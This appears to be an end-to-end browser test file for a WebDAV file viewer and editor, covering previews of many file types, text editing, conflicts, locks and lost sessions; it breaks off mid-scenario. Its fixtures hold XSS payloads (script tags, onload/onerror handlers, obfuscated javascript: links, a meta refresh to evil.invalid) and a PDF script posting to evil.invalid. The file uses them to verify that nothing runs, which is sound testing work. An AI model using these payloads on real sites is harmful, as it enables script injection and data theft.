// Looking at files and editing them.
import { deflateSync } from "node:zlib";
import { readFile } from "node:fs/promises";
import { api, check, checkAxe, dav, equal, eventually, must, onDisk, scenario, server, shot, signIn, user } from "./harness.mjs";

// Files, made here.

const crcTable = Array.from({ length: 256 }, (_, n) => {
  for (let k = 0; k < 8; k++) n = n & 1 ? (n >>> 1) ^ 0xedb88320 : n >>> 1;
  return n >>> 0;
});
const crc = (b) => (b.reduce((c, v) => crcTable[(c ^ v) & 255] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function png(width, height, colour) {
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const around = Buffer.alloc(8);
    around.writeUInt32BE(data.length, 0);
    around.writeUInt32BE(crc(body), 4);
    return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: width }, () => colour).flat())]);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", head), chunk("IDAT", deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))), chunk("IEND", Buffer.alloc(0)),
  ]);
}

// A second of a tone, or more.
function wav(seconds) {
  const rate = 8000;
  const data = Buffer.alloc(rate * seconds * 2);
  for (let i = 0; i < data.length / 2; i++) data.writeInt16LE(Math.round(3000 * Math.sin(i / 3)), i * 2);
  const head = Buffer.alloc(44);
  head.write("RIFF", 0);
  head.writeUInt32LE(36 + data.length, 4);
  head.write("WAVEfmt ", 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(rate, 24);
  head.writeUInt32LE(rate * 2, 28);
  head.writeUInt16LE(2, 32);
  head.writeUInt16LE(16, 34);
  head.write("data", 36);
  head.writeUInt32LE(data.length, 40);
  return Buffer.concat([head, data]);
}

const view = (folder, ...steps) => "/#/view/" + [folder, ...steps].map(encodeURIComponent).join("/");
const put = (who, folder, name, content, headers) => must(who, "PUT", `/dav/${folder}/${name.split("/").map(encodeURIComponent).join("/")}`, content, headers);

// nothingRan fails if a file's script ran: each of them would set a mark, a cookie or the title.
async function nothingRan(page) {
  equal(await page.evaluate(() => ({ mark: window.pwned ?? null, cookie: /pwned/.test(document.cookie), title: /pwned/.test(document.title) })), { mark: null, cookie: false, title: false });
}

await scenario("pictures", async ({ context, requests }) => {
  const ann = await user("pic-ann", { folders: ["photos"] });
  const id = ann.folders.photos;
  await put(ann, id, "a red one.png", png(640, 400, [200, 40, 40]));
  await put(ann, id, "b.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="parent.pwned=1;window.pwned=1"><rect width="300" height="200" fill="#28a"/><script>window.pwned = 1; document.cookie = "pwned=1"</script><image href="/api/davit/me"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.pwned=1"/></foreignObject></svg>`);
  await put(ann, id, "c.jpg", Buffer.from("this is no picture"));
  const page = await signIn(context, ann.name, ann.password, view(id, "a red one.png"));
  const picture = page.getByRole("img", { name: "a red one.png" });
  await picture.waitFor();
  await eventually("it is read", () => picture.evaluate((img) => img.complete && img.naturalWidth === 640));
  check((await picture.getAttribute("src")).startsWith("blob:"), "not from memory");
  await page.getByText("640 × 400 pixels").waitFor();
  const fitted = await picture.evaluate((img) => img.clientWidth);
  await page.getByRole("button", { name: "Zoom in" }).click();
  await eventually("it is larger", async () => (await picture.evaluate((img) => img.clientWidth)) > fitted);
  await page.getByRole("button", { name: "100 %" }).click();
  await eventually("it is as large as it is", async () => (await picture.evaluate((img) => img.clientWidth)) === 640);
  await checkAxe(page);
  await page.getByRole("button", { name: "Fit" }).click();
  await shot(page, "picture");

  await page.getByText("1 of 3").waitFor();
  await page.locator("h1").focus();
  await page.keyboard.press("ArrowRight");
  await page.getByRole("heading", { name: "b.svg" }).waitFor();
  const drawing = page.getByRole("img", { name: "b.svg" });
  await eventually("it is drawn", () => drawing.evaluate((img) => img.complete && img.naturalWidth === 300));
  await nothingRan(page);
  equal(await page.locator("iframe, object, embed").count(), 0, "frames");
  await page.keyboard.press("PageDown");
  await page.getByRole("heading", { name: "c.jpg" }).waitFor();
  await page.getByText("The browser can't read this picture").waitFor();
  await checkAxe(page);
  await shot(page, "broken-picture");
  await page.getByRole("button", { name: "Previous file" }).click();
  await page.getByRole("heading", { name: "b.svg" }).waitFor();
  await page.keyboard.press("Escape");
  await eventually("the directory", () => new URL(page.url()).hash === `#/files/${id}`);
  check(!requests.some((r) => r.path === "/api/davit/me" && r.type === "image"), "the drawing asked the server for something");
});

await scenario("text of every kind", async ({ context, requests }) => {
  const ann = await user("text-ann", { folders: ["texts"] });
  const id = ann.folders.texts;
  await put(ann, id, "hello.py", "import os\n\ndef hello(name):\n    # greets\n    return f'hello {name}'\n");
  await put(ann, id, "utf16.txt", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("žluťoučký kůň", "utf16le")]));
  await put(ann, id, "western.txt", Buffer.from("caf\xe9 cr\xe8me", "latin1"));
  await put(ann, id, "page.html", `<!doctype html><meta http-equiv="refresh" content="0;url=https://evil.invalid/"><script>window.pwned = 1; document.cookie = "pwned=1"</script><h1>Not a heading</h1>`);
  await put(ann, id, "not a text.txt", Buffer.from([0, 1, 2, 3, 0, 255, 254, 0]));
  await put(ann, id, "nothing.txt", "");
  await put(ann, id, "ar\u202Ekcehc.txt", "the name turns");
  await put(ann, id, "x.zip", Buffer.from("PK\x03\x04"));
  const line = (i) => `${String(i).padStart(7, "0")} the quick brown fox jumps over the lazy dog\r\n`;
  const log = Array.from({ length: 102_000 }, (_, i) => line(i)).join("");
  await put(ann, id, "server.log", log);

  const page = await signIn(context, ann.name, ann.password, view(id, "hello.py"));
  const code = (name) => page.getByRole("textbox", { name: `Content of ${name}` });
  await code("hello.py").getByText("def hello(name):").waitFor();
  await eventually("it has colours", () => code("hello.py").evaluate((el) => new Set([...el.querySelectorAll("span")].map((s) => getComputedStyle(s).color)).size > 2));
  await checkAxe(page);
  await shot(page, "code");

  await page.goto(view(id, "utf16.txt"));
  await code("utf16.txt").getByText("žluťoučký kůň").waitFor();
  await page.goto(view(id, "western.txt"));
  await code("western.txt").getByText("café crème").waitFor();
  await page.getByText("This text is not UTF-8").waitFor();
  await page.goto(view(id, "page.html"));
  await code("page.html").getByText("Not a heading").waitFor();
  equal(await page.getByRole("heading", { name: "Not a heading" }).count(), 0, "headings of a file");
  await nothingRan(page);
  await page.goto(view(id, "nothing.txt"));
  await page.getByText("The file is empty.").waitFor();
  await page.goto(view(id, "ar\u202Ekcehc.txt"));
  await page.getByRole("heading", { name: "arU+202Ekcehc.txt" }).waitFor();
  await page.getByText("the name turns").waitFor();
  check((await page.title()).includes("ar⟨U+202E⟩kcehc.txt"), await page.title());

  await page.goto(view(id, "not a text.txt"));
  await page.getByText("The content of this file is not text").waitFor();
  await checkAxe(page);
  await shot(page, "binary");
  await page.getByRole("button", { name: "Show it as text anyway" }).click();
  await code("not a text.txt").waitFor();

  await page.goto(view(id, "x.zip"));
  await page.getByText("ZIP file, 4 B").waitFor();
  const saved = page.waitForEvent("download");
  await page.getByRole("main").getByRole("button", { name: "Download" }).first().click();
  equal((await saved).suggestedFilename(), "x.zip");

  const before = requests.length;
  await page.goto(view(id, "server.log"));
  await code("server.log").getByText("0000000 the quick").waitFor();
  await page.getByText("Shown: 1 MiB of").waitFor();
  const read = await code("server.log").evaluate((el) => el.textContent.length);
  check(read < 200_000, `the page holds ${read} characters: all lines are in it`);
  await page.getByRole("button", { name: "Show more" }).click();
  await page.getByText("Shown: 2 MiB of").waitFor();
  await code("server.log").focus();
  await page.keyboard.press("Control+f");
  await page.getByRole("textbox", { name: "Find" }).waitFor();
  await page.keyboard.type("0030000 the");
  await page.keyboard.press("Enter");
  await code("server.log").getByText("0030000 the quick").waitFor();
  await checkAxe(page);
  await shot(page, "log");
  equal(requests.slice(before).filter((r) => r.path.endsWith("server.log") && r.path.startsWith("/dav/")).length, 2, "requests for the log");
});

await scenario("sound", async ({ context }) => {
  const ann = await user("sound-ann", { folders: ["sounds"] });
  const id = ann.folders.sounds;
  await put(ann, id, "tone.wav", wav(120));
  await put(ann, id, "noise.mp3", Buffer.alloc(5000, 7));
  const answers = [];
  let expired = false;
  await context.route("**/api/davit/download?*", async (route) => {
    if (expired && route.request().url().includes(expired)) return route.fulfill({ status: 404, body: "expired" });
    return route.continue();
  });
  context.on("response", (r) => {
    if (r.url().includes("/api/davit/download")) answers.push({ status: r.status(), range: r.request().headers().range, url: r.url() });
  });
  const page = await signIn(context, ann.name, ann.password, view(id, "tone.wav"));
  const player = page.getByLabel("tone.wav");
  await eventually("it knows how long it is", () => player.evaluate((el) => Math.round(el.duration) === 120));
  await checkAxe(page);
  await shot(page, "sound");
  await eventually("answers", () => answers.length > 0);
  check(answers.every((a) => a.status === 206 && /^bytes=\d+-/.test(a.range)), JSON.stringify(answers));
  await player.evaluate((el) => { el.currentTime = 100; });
  await eventually("it is there", () => player.evaluate((el) => !el.seeking && el.currentTime >= 100));
  // The link has run out: the player gets another one, and goes on where it was.
  expired = new URL(await player.evaluate((el) => el.src)).search;
  await player.evaluate((el) => el.dispatchEvent(new Event("error")));
  await eventually("another link", async () => (new URL(await player.evaluate((el) => el.src)).search) !== expired);
  await eventually("it is there again", () => player.evaluate((el) => !el.seeking && el.currentTime >= 100));
  await page.goto(view(id, "noise.mp3"));
  await page.getByText("The browser can't play this file").waitFor();
  await checkAxe(page);
});

await scenario("Markdown is a document and nothing else", async ({ context, requests }) => {
  const ann = await user("md-ann", { folders: ["docs"] });
  const id = ann.folders.docs;
  await must(ann, "MKCOL", `/dav/${id}/sub`);
  await put(ann, id, "sub/other.md", "# The other one");
  await put(ann, id, "near.png", png(30, 20, [10, 160, 60]));
  await put(ann, id, "README.md", [
    "# Title", "", "Some **bold** text, `code` and [a file](sub/other.md), [outside](https://example.invalid/x), [below](#a-part).", "",
    "![near](near.png) ![far](https://tracker.invalid/pixel.png) ![nowhere](missing.png) ![inline](data:image/svg+xml,<svg onload=window.pwned=1>)", "",
    "<script>window.pwned = 1</script>", "", `<img src=x onerror="window.pwned = 1">`, "", `<svg onload="window.pwned=1"></svg><iframe srcdoc="<script>top.pwned=1</script>"></iframe>`, "",
    "[js](javascript:window.pwned=1) [js2](JaVaScRiPt:window.pwned=1) [js3](java&#115;cript:window.pwned=1) [js4](<java\tscript:window.pwned=1>) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:msgbox)", "",
    "<a href=\"javascript:window.pwned=1\">raw</a> <style>body{display:none}</style> <base href=\"https://evil.invalid/\"> <meta http-equiv=refresh content=\"0;url=https://evil.invalid\">", "",
    "![x](x\"onerror=\"window.pwned=1) [x](https://a.invalid/\"onclick=\"window.pwned=1)", "", "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>", "",
    "```html", "<script>window.pwned=1</script>", "```", "", "| a | b |", "|:--|--:|", "| 1 | 2 |", "", "[api](/api/davit/me) ![api](/auth/logout/web)", "", "- [x] written", "- [ ] sent", "- \\[x] no task", "", "## A part", "", "The end.",
  ].join("\n"));
  const page = await signIn(context, ann.name, ann.password, view(id, "README.md"));
  const doc = page.getByRole("article", { name: "README.md" });
  await doc.getByRole("heading", { name: "A part" }).waitFor();
  await eventually("the picture of the folder", () => doc.getByRole("img", { name: "near" }).evaluate((img) => img.complete && img.naturalWidth === 30));
  await doc.getByText("far (picture of tracker.invalid, not loaded)").waitFor();
  await doc.getByText("nowhere (this picture is not in the folder)").waitFor();
  await nothingRan(page);
  equal(await doc.evaluate((el) => [...el.querySelectorAll("script, iframe, style, base, meta, svg, math, object, embed, form, input:not([type=checkbox][disabled])")].length), 0, "elements");
  equal(await doc.evaluate((el) => [...el.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on") || n === "style")), [], "attributes");
  const links = await doc.evaluate((el) => [...el.querySelectorAll("a[href]")].map((a) => [a.getAttribute("href"), a.target, a.rel]));
  for (const [href, target, rel] of links) {
    if (href.startsWith("#")) continue;
    check(/^https:\/\//.test(href) && target === "_blank" && rel === "noopener noreferrer", `a link to ${href} with ${target} ${rel}`);
  }
  check(!requests.some((r) => r.path.startsWith("/auth/logout")), "a picture has signed out");
  equal(await doc.getByRole("checkbox").evaluateAll((all) => all.map((c) => [c.ariaLabel, c.checked, c.parentElement.textContent.trim()])), [["done", true, "written"], ["not done", false, "sent"]], "tasks");
  await doc.getByText("[x] no task").waitFor();
  await checkAxe(page);
  await shot(page, "markdown");
  await page.getByRole("button", { name: "Source" }).click();
  await page.getByRole("textbox", { name: "Content of README.md" }).getByText("# Title").waitFor();
  await page.getByRole("button", { name: "Document" }).click();
  await doc.getByRole("link", { name: "a file" }).click();
  await page.getByRole("heading", { name: "The other one" }).waitFor();
  await page.goBack();
  await doc.getByRole("heading", { name: "A part" }).waitFor();
});

await scenario("tables and JSON", async ({ context }) => {
  const ann = await user("table-ann", { folders: ["data"] });
  const id = ann.folders.data;
  await put(ann, id, "a.csv", `name;note;n\r\n"Smith; J.";"says ""hi""\r\ntwice";1\r\nlast;;2\r\n`);
  await put(ann, id, "b.json", `{"big":123456789012345678901234567890,"a":[1,{"x":"y, {z}"}],"e":{},"b":"\\""}`);
  await put(ann, id, "c.json", `{"broken": `);
  const page = await signIn(context, ann.name, ann.password, view(id, "a.csv"));
  await page.getByRole("columnheader", { name: "note" }).waitFor();
  equal(await page.getByRole("row").nth(1).getByRole("cell").allTextContents(), ["1", "Smith; J.", 'says "hi"\ntwice', "1"]);
  await page.getByText("2 rows").waitFor();
  await checkAxe(page);
  await shot(page, "table");
  await page.goto(view(id, "b.json"));
  const code = page.getByRole("textbox");
  await code.getByText("123456789012345678901234567890").waitFor();
  equal(await code.evaluate((el) => [...el.querySelectorAll(".cm-line")].map((l) => l.textContent)), ["{", '  "big": 123456789012345678901234567890,', '  "a": [', "    1,", "    {", '      "x": "y, {z}"', "    }", "  ],", '  "e": {},', '  "b": "\\""', "}", ""]);
  await page.goto(view(id, "c.json"));
  await page.getByText("This is not valid JSON").waitFor();
  await checkAxe(page);

  // A notebook: its cells, and of their outputs what does not run.
  const picture = png(40, 20, [10, 160, 60]).toString("base64");
  await put(ann, id, "d.ipynb", JSON.stringify({
    nbformat: 4, nbformat_minor: 5, metadata: { language_info: { name: "python" } },
    cells: [
      { cell_type: "markdown", source: ["# Growth\n", "see <img src=x onerror='window.pwned=1'> *below*"] },
      { cell_type: "code", execution_count: 7, source: "df.head()", outputs: [
        { output_type: "execute_result", data: { "text/html": "<script>window.pwned=1</script>", "text/plain": ["a  b\n", "1  2"] } },
        { output_type: "display_data", data: { "image/png": picture, "text/plain": "<Figure>" } }, { output_type: "display_data", data: { "text/html": "<img src=x onerror='window.pwned=1'>" } },
        { output_type: "error", ename: "E", evalue: "v", traceback: ["\u001b[31mE\u001b[0m: v"] }, { output_type: "stream", text: 5 }, null,
      ] },
      null, "no cell", { cell_type: "code", source: { a: 1 }, outputs: "none" },
    ],
  }));
  await put(ann, id, "e.ipynb", `{"cells": `);
  await page.goto(view(id, "d.ipynb"));
  const book = page.getByRole("article", { name: "Notebook d.ipynb" });
  await book.getByRole("heading", { name: "Growth" }).waitFor();
  await book.getByText("[7]").waitFor();
  equal(await book.getByRole("group", { name: "Code, cell 2" }).textContent(), "df.head()");
  equal(await book.getByRole("group", { name: "Output of cell 2" }).first().textContent(), "a  b\n1  2");
  equal(await book.getByRole("group", { name: "Error in cell 2" }).textContent(), "E: v");
  await eventually("the picture of the notebook", () => book.getByRole("img", { name: "Picture in the output of cell 2" }).evaluate((img) => img.naturalWidth === 40));
  await book.getByText("which is not run here").first().waitFor();
  await nothingRan(page);
  await checkAxe(page);
  await shot(page, "notebook");
  await page.getByRole("button", { name: "Source" }).click();
  await page.getByRole("textbox", { name: "Content of d.ipynb" }).getByText("execution_count").waitFor();
  await page.goto(view(id, "e.ipynb"));
  await page.getByText("This is not a notebook that the page can read").waitFor();
  await page.getByRole("textbox", { name: "Content of e.ipynb" }).waitFor();
});

// A PDF file with that many pages, a link and a script that must not run.
function pdf(pages) {
  const objects = ["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.invalid'\\)) >> >>",
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${4 + i * 2} 0 R`).join(" ")}] /Count ${pages} >>`, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"];
  for (let i = 0; i < pages; i++) {
    const text = `BT /F1 24 Tf 72 700 Td (This is page ${i + 1}${i === 8 ? " with the treasure" : ""}) Tj ET`;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + i * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /URI /URI (${i ? "javascript:window.pwned=1" : "https://example.invalid/pdf"}) >> >>] >>`);
    objects.push(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`);
  }
  let out = "%PDF-1.4\n";
  const at = objects.map((o, i) => {
    const here = out.length;
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
    return here;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((n) => `${String(n).padStart(10, "0")} 00000 n \n`).join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

await scenario("PDF", async ({ context, requests }) => {
  const ann = await user("pdf-ann", { folders: ["papers"] });
  const id = ann.folders.papers;
  await put(ann, id, "paper.pdf", pdf(10));
  await put(ann, id, "broken.pdf", "%PDF-1.4 and no more");
  const page = await signIn(context, ann.name, ann.password, view(id, "paper.pdf"));
  await page.getByText("This is page 1", { exact: true }).waitFor();
  const drawn = () => page.evaluate(() => {
    const c = document.querySelector("[data-page='1'] canvas");
    return c ? c.getContext("2d").getImageData(0, 0, c.width, c.height).data.some((v, i) => i % 4 < 3 && v < 100) : false;
  });
  await eventually("it is drawn", drawn);
  equal(await page.locator("canvas").count() < 10, true, "only pages near are drawn");
  await checkAxe(page);
  await shot(page, "pdf");
  await page.getByRole("button", { name: "Next page" }).click();
  await page.getByText("Page 2 of 10").waitFor();
  await page.getByRole("searchbox", { name: "Find" }).fill("TREASURE");
  await page.keyboard.press("Enter");
  await page.getByText("Found on page 9").waitFor();
  await page.getByText("This is page 9 with the treasure").waitFor();
  await page.getByRole("spinbutton", { name: "Page" }).fill("1");
  await page.keyboard.press("Enter");
  await page.getByRole("link", { name: "https://example.invalid/pdf" }).waitFor();
  equal(await page.locator(".preview-pdf a").evaluateAll((all) => all.map((a) => a.getAttribute("href")).filter((h) => !/^https:/.test(h))), [], "links");
  await page.getByRole("button", { name: "Zoom in" }).click();
  await page.getByText("This is page 1", { exact: true }).waitFor();
  await nothingRan(page);
  check(requests.some((r) => r.path.startsWith("/assets/pdfworker")), "no worker of our own");
  await page.goto(view(id, "broken.pdf"));
  await page.getByText("This PDF file can't be shown").waitFor();
  await checkAxe(page);
});

await scenario("video", async ({ context }) => {
  const ann = await user("video-ann", { folders: ["films"] });
  const id = ann.folders.films;
  const page = await signIn(context, ann.name, ann.password);
  const film = await page.evaluate(async () => {
    const canvas = document.createElement("canvas");
    canvas.width = canvas.height = 64;
    const pen = canvas.getContext("2d");
    const recorder = new MediaRecorder(canvas.captureStream(), { mimeType: "video/webm" });
    const parts = [];
    recorder.ondataavailable = (e) => parts.push(e.data);
    recorder.start();
    for (let i = 0; i < 12; i++) {
      pen.fillStyle = i % 2 ? "red" : "blue";
      pen.fillRect(0, 0, 64, 64);
      await new Promise(requestAnimationFrame);
    }
    await new Promise((done) => {
      recorder.onstop = done;
      recorder.stop();
    });
    return [...new Uint8Array(await new Blob(parts).arrayBuffer())];
  });
  await put(ann, id, "film.webm", Buffer.from(film));
  const answers = [];
  context.on("response", (r) => r.url().includes("/api/davit/download") && answers.push([r.status(), r.request().headers().range ?? ""]));
  await page.goto(view(id, "film.webm"));
  const player = page.getByLabel("film.webm");
  await eventually("it can be played", () => player.evaluate((el) => el.videoWidth === 64 && el.readyState >= 2));
  check(answers.length > 0 && answers.every(([status, range]) => status === 206 && range.startsWith("bytes=")), JSON.stringify(answers));
  await checkAxe(page);
  await shot(page, "video");
});

const editor = (page, name) => page.getByRole("textbox", { name: `Text of ${name}` });
const savedText = (page) => page.getByText("All changes are saved.");
const edit = async (page, name) => {
  await page.getByRole("button", { name: "Edit", exact: true }).click();
  await editor(page, name).waitFor();
  await editor(page, name).click();
  await page.keyboard.press("Control+Home");
};
const bytesOf = async (id, name) => (await readFile(onDisk(`${id}/${name}`))).toString("latin1");

await scenario("edits keep the encoding and the line endings", async ({ context }) => {
  const ann = await user("edit-ann", { folders: ["notes"] });
  const id = ann.folders.notes;
  const page = await signIn(context, ann.name, ann.password);
  const utf16 = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from("kůň\r\nb\r\n", "utf16le").swap16()]);
  for (const [name, before, after] of [
    ["crlf.txt", Buffer.from("\ufeffone\r\ntwo\r\n"), Buffer.from("\ufeffX\r\none\r\ntwo\r\n")],
    ["western.txt", Buffer.from("caf\xe9\rx", "latin1"), Buffer.from("X\rcaf\xe9\rx", "latin1")],
    ["big-endian.txt", utf16, Buffer.concat([utf16.subarray(0, 2), Buffer.from("X\r\nkůň\r\nb\r\n", "utf16le").swap16()])],
    ["mixed.txt", Buffer.from("a\r\nb\nc"), Buffer.from("X\na\r\nb\nc")],
    ["empty.txt", Buffer.from(""), Buffer.from("X\n")],
  ]) {
    await put(ann, id, name, before);
    await page.goto(view(id, name));
    await edit(page, name);
    await page.keyboard.type("X\n");
    await page.getByText("There are unsaved changes.").waitFor();
    await page.keyboard.press("Control+s");
    await savedText(page).waitFor();
    equal(await bytesOf(id, name), after.toString("latin1"), name);
    const locks = await dav(ann, "PROPFIND", `${id}/${name}`, `<propfind xmlns="DAV:"><prop><lockdiscovery/></prop></propfind>`, { Depth: "0" });
    await eventually("the lock is gone", async () => !(await dav(ann, "PROPFIND", `${id}/${name}`, `<propfind xmlns="DAV:"><prop><lockdiscovery/></prop></propfind>`, { Depth: "0" })).text.includes("activelock"));
    check(locks.status === 207, locks.text);
  }
  await checkAxe(page);
  await shot(page, "editor");
  // Out of the text by the keyboard.
  await editor(page, "empty.txt").click();
  await page.keyboard.press("Escape");
  await page.keyboard.press("Tab");
  check(!(await editor(page, "empty.txt").evaluate((el) => el === el.getRootNode().activeElement)), "Tab stays in the text");
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("button", { name: "Edit", exact: true }).waitFor();

  await page.goto(view(id, "new one.md") + "?new=1");
  await editor(page, "new one.md").waitFor();
  await page.keyboard.type("# Fresh");
  await page.getByRole("button", { name: "Save" }).click();
  await savedText(page).waitFor();
  equal(await bytesOf(id, "new one.md"), "# Fresh");
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("heading", { name: "Fresh" }).waitFor();
});

await scenario("two versions", async ({ context }) => {
  const ann = await user("two-ann", { folders: ["shared"] });
  const id = ann.folders.shared;
  const page = await signIn(context, ann.name, ann.password);
  const begin = async (name) => {
    await put(ann, id, name, "first line\nsecond line\n");
    await page.goto(view(id, name));
    await edit(page, name);
    await put(ann, id, name, "first line\nsecond line, by somebody else\n");
    await page.keyboard.type("mine ");
    await page.getByText("The file was changed after you opened it.").waitFor();
    await page.keyboard.press("Control+s");
    await page.getByRole("heading", { name: `${name} was changed by somebody else` }).waitFor();
  };
  await begin("a.txt");
  await page.getByRole("dialog").getByText("second line, by somebody else").waitFor();
  await checkAxe(page);
  await shot(page, "conflict");
  await page.getByRole("button", { name: "Overwrite with mine" }).click();
  await savedText(page).waitFor();
  equal(await bytesOf(id, "a.txt"), "mine first line\nsecond line\n");

  await begin("b.txt");
  await page.getByRole("button", { name: "Take the other version" }).click();
  await editor(page, "b.txt").getByText("second line, by somebody else").waitFor();
  equal(await bytesOf(id, "b.txt"), "first line\nsecond line, by somebody else\n");

  await begin("c.txt");
  await page.getByRole("button", { name: "Save under another name …" }).click();
  equal(await page.getByRole("textbox", { name: "Name in the same folder" }).inputValue(), "c (mine).txt");
  await page.getByRole("textbox", { name: "Name in the same folder" }).fill("a.txt");
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
  await page.getByText("There is a file with this name.").waitFor();
  await page.getByRole("textbox", { name: "Name in the same folder" }).fill("c of ann.txt");
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
  await page.getByRole("heading", { name: "c of ann.txt" }).waitFor();
  equal(await bytesOf(id, "c of ann.txt"), "mine first line\nsecond line\n");
  equal(await bytesOf(id, "c.txt"), "first line\nsecond line, by somebody else\n");

  // While there are unsaved changes, others are told so.
  await put(ann, id, "d.txt", "x\n");
  await page.goto(view(id, "d.txt"));
  await edit(page, "d.txt");
  await page.keyboard.type("y");
  const refused = await eventually("a lock", async () => {
    const res = await dav(ann, "PUT", `${id}/d.txt`, "z", { "If-Match": '"never"' });
    const put = res.status === 412 ? await dav(ann, "LOCK", `${id}/d.txt`, `<lockinfo xmlns="DAV:"><lockscope><shared/></lockscope><locktype><write/></locktype></lockinfo>`, { Timeout: "Second-1" }) : res;
    if (put.status === 423) return put;
    if (put.status === 200) await dav(ann, "UNLOCK", `${id}/d.txt`, undefined, { "Lock-Token": put.headers.get("Lock-Token") });
    return null;
  });
  check(refused.text.includes("locked by two-ann"), refused.text);
  await api(ann, "DELETE", `/dav/${id}/d.txt`);
});

await scenario("what can't be saved stays", async ({ context, expect }) => {
  expect(/answer 507: PUT /);
  expect(/no answer: (PUT|GET) .*ERR_INTERNET_DISCONNECTED/);
  const ann = await user("stay-ann", { folders: ["notes"], limits: { maxBytes: 3000 } });
  const bob = await user("stay-bob");
  const id = ann.folders.notes;
  await put(ann, id, "a.txt", "text\n");
  const page = await signIn(context, ann.name, ann.password, view(id, "a.txt"));

  // Locked from outside.
  const lock = await dav(ann, "LOCK", `${id}/a.txt`, `<lockinfo xmlns="DAV:"><lockscope><exclusive/></lockscope><locktype><write/></locktype></lockinfo>`, { Timeout: "Second-600" });
  await edit(page, "a.txt");
  await page.keyboard.type("more ");
  await page.getByText("Somebody else is using this file (locked by stay-ann).").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByText("Not saved: the file is locked by stay-ann.").waitFor();
  await page.getByRole("button", { name: "Save under another name …" }).waitFor();
  await checkAxe(page);
  await shot(page, "locked");
  await dav(ann, "UNLOCK", `${id}/a.txt`, undefined, { "Lock-Token": lock.headers.get("Lock-Token") });
  await page.getByRole("button", { name: "Try again" }).click();
  await savedText(page).waitFor();
  equal(await bytesOf(id, "a.txt"), "more text\n");

  // No room.
  await editor(page, "a.txt").click();
  await page.keyboard.insertText("0123456789".repeat(400));
  await page.keyboard.press("Control+s");
  await page.getByText(/not enough room .the folder's limit of 3000 bytes is reached: .* missing/).waitFor();
  await checkAxe(page);
  await shot(page, "full");
  equal(await bytesOf(id, "a.txt"), "more text\n");
  await page.keyboard.press("Control+z");

  // The server does not answer; when it does, the text is saved without being asked.
  await editor(page, "a.txt").click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.type("even ");
  await context.setOffline(true);
  await page.keyboard.press("Control+s");
  await page.getByText("Your text is not saved, but kept here.").waitFor();
  await context.setOffline(false);
  await savedText(page).waitFor();
  equal(await bytesOf(id, "a.txt"), "even more text\n");

  // Unsaved changes are not left by mistake.
  await editor(page, "a.txt").click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.type("Z");
  await page.getByRole("link", { name: "Mount" }).click();
  await page.getByRole("heading", { name: "Leave without saving?" }).waitFor();
  await checkAxe(page);
  await shot(page, "unsaved");
  await page.getByRole("button", { name: "Keep editing" }).click();
  equal(new URL(page.url()).hash, `#/view/${id}/a.txt?edit=1`);
  const asked = page.waitForEvent("dialog");
  void page.reload().catch(() => {}); // it never ends
  const dialog = await asked;
  equal(dialog.type(), "beforeunload");
  await dialog.dismiss();
  await editor(page, "a.txt").getByText("Zeven more text").waitFor();

  // The session ends: the text is there again for who signs in again, and for nobody else.
  await context.clearCookies();
  await page.route("**/dav/**", (route) => route.fulfill({ status: 401, body: "" }));
  await page.keyboard.press("Control+s");
  await page.getByRole("button", { name: "Sign in" }).waitFor();
  await page.unroute("**/dav/**");
  await page.getByRole("textbox", { name: "User name" }).fill(ann.name);
  await page.getByRole("textbox", { name: "Password" }).fill(ann.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("Your unsaved changes from before you signed in again are here.").waitFor();
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await savedText(page).waitFor();
  equal(await bytesOf(id, "a.txt"), "Zeven more text\n");
  await editor(page, "a.txt").click();
  await page.keyboard.type("Q");
  await context.clearCookies();
  await page.route("**/dav/**", (route) => route.fulfill({ status: 401, body: "" }));
  await page.keyboard.press("Control+s");
  await page.getByRole("button", { name: "Sign in" }).waitFor();
  await page.unroute("**/dav/**");
  for (const who of [bob, ann]) {
    await page.getByRole("textbox", { name: "User name" }).fill(who.name);
    await page.getByRole("textbox", { name: "Password" }).fill(who.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("button", { name: `Menu of ${who.name}` }).waitFor();
    if (who === bob) {
      await page.getByRole("button", { name: "Menu of stay-bob" }).click();
